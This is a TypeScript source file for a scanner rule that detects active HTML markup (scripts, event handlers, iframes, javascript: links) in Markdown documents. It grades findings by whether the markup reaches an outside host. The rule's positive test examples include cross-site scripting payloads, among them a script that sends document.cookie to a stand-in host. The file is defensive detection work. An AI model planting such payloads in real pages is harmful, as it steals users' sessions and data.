import { isOutside } from '../chains.js'
import type { Evidence } from '../evidence.js'
import type { WebAddress } from '../facts/address.js'
import { splitCodeSpans } from '../facts/code-spans.js'
import { isEmbeddedHost } from '../facts/embedded-hosts.js'
import { type ActiveMarkup, findActiveMarkup } from '../facts/markup.js'
import { addressesIn, reachesOut, runsUnread, sendsFrom, takesAway } from '../facts/page-script.js'
import type { Severity } from '../finding.js'
import { isNamedBeside } from '../named-hosts.js'
import type { Observation, Rule } from '../rule.js'
import { placeIn, type Segment } from '../text/segment.js'

export const rule: Rule = {
  id: 'SK-RL007',
  pattern: 'active markup in document',
  severity: 'warn',
  tags: ['AST01', 'CWE-79', 'CWE-829'],
  why: 'Markdown renders raw markup: a script, event handler, frame or javascript: link runs in any program that displays the document, before anyone reads it.',
  fix: 'Show markup in a fenced code block, and keep scripts in separate files.',
  raisedWhen: 'the markup reaches another host',
  examples: {
    positive: [
      'Thanks for reading.\n\n<script>fetch("https://c.example.net/?"+document.cookie)</script>\n',
      '<img src=x onerror="fetch(\'https://c.example.net/\')">\n',
      '<svg onload=alert(1)></svg>\n',
      '<iframe src="https://c.example.net/"></iframe>\n',
      'Read [the manual](javascript:fetch("https://c.example.net")).\n',
      '```html\n<script>fetch("https://c.example.net/?"+document.cookie)</script>\n```\n',
    ],
    negative: [
      '```html\n<script src="app.js"></script>\n<button onclick="toggle()">Show</button>\n<script>\nrender(document.body)\n</script>\n```\n',
      'Put it in a `<script>` tag; a `javascript:` link or `<img onerror=…>` is not allowed.\n',
      '<details><summary>More</summary>\n\n<img src="logo.png" width="80"> <a href="https://example.com">site</a>\n\n</details>\n',
      'Use <script> tags sparingly.\n',
      '```html\n<script src="https://cdn.tailwindcss.com"></script>\n```\n',
      '```html\n<script>\nfetch("/api/items").then(r => r.json()).then(show)\n</script>\n```\n',
    ],
  },
  find: (evidence) => evidence.segments.flatMap((segment) => judge(segment, evidence)),
}

function judge(segment: Segment, evidence: Evidence): readonly Observation[] {
  const { kind } = segment
  if (kind === 'fence') return shown(segment, segment.text, evidence)
  if (kind !== 'paragraph' && kind !== 'heading' && kind !== 'field') return []
  const { plain, code } = splitCodeSpans(segment.text)
  return [...rendered(segment, plain, evidence), ...shown(segment, code, evidence)]
}

/** Markup that a renderer passes through. A script continues even if a blank line ends the paragraph. */
function rendered(segment: Segment, plain: string, { files }: Evidence): readonly Observation[] {
  // Lists and catalogues show the description.
  const isText = segment.language === 'prose' || /^(?:name|description)\s{0,3}:/.test(segment.text)
  if (!isText || !/\.(?:md|mdx|markdown)$/i.test(files[segment.file]?.path ?? '')) return []
  return findActiveMarkup(plain + restOf(segment, plain, files[segment.file]?.text)).map((markup) => {
    const isReaching =
      reachesOut(markup.code) || (markup.kind === 'script' && markup.address !== undefined && isForeign(markup.address))
    const severity: Severity = isReaching ? 'block' : 'warn'
    return { segment, at: markup.index, severity, confidence: 'high', message: MESSAGES[markup.kind] }
  })
}

/** Public copies of published packages are no one's own host. */
function isForeign(address: WebAddress): boolean {
  return isOutside(address) && (address.isPlain || (address.kind !== 'code' && address.kind !== 'known'))
}

const LONGEST = 8192

function restOf(segment: Segment, plain: string, text: string | undefined): string {
  const lower = plain.toLowerCase()
  const open = lower.lastIndexOf('<script')
  if (open < 0 || lower.includes('</script', open)) return ''
  const from = placeIn(segment, segment.text.length)
  return text?.slice(from, from + LONGEST) ?? ''
}

const MESSAGES: Readonly<Record<ActiveMarkup['kind'], string>> = {
  script: 'A script runs when the document is rendered',
  handler: 'An event handler runs when the document is rendered',
  frame: 'Rendering the document loads another page',
  link: 'A link in the document is code',
  page: 'Rendering the document redirects the reader',
}

/** Quoted markup may teach; it may not contact a host that nothing else here names, or run what it decodes. */
function shown(segment: Segment, text: string, evidence: Evidence): readonly Observation[] {
  return findActiveMarkup(text).flatMap((markup): readonly Observation[] => {
    const { kind, code, address } = markup
    if (segment.language === 'javascript' && kind !== 'script') return []
    const reached = [address, ...(kind !== 'frame' && sendsFrom(code) ? addressesIn(code) : [])]
    const isTaking = takesAway(code) && reached.some((each) => each !== undefined && isOutside(each))
    if (!isTaking && !runsUnread(code) && !reached.some((each) => isStranger(each, segment, evidence))) return []
    return [{ segment, at: markup.index, message: `${MESSAGES[kind]}, if copied into a page` }]
  })
}

/** Whether an address points to a host that no other part of the skill names. */
function isStranger(address: WebAddress | undefined, segment: Segment, evidence: Evidence): boolean {
  if (address === undefined || !isOutside(address) || address.kind === 'code' || address.kind === 'known') return false
  return !isEmbeddedHost(address.host) && !isNamedBeside(address, segment, evidence)
}
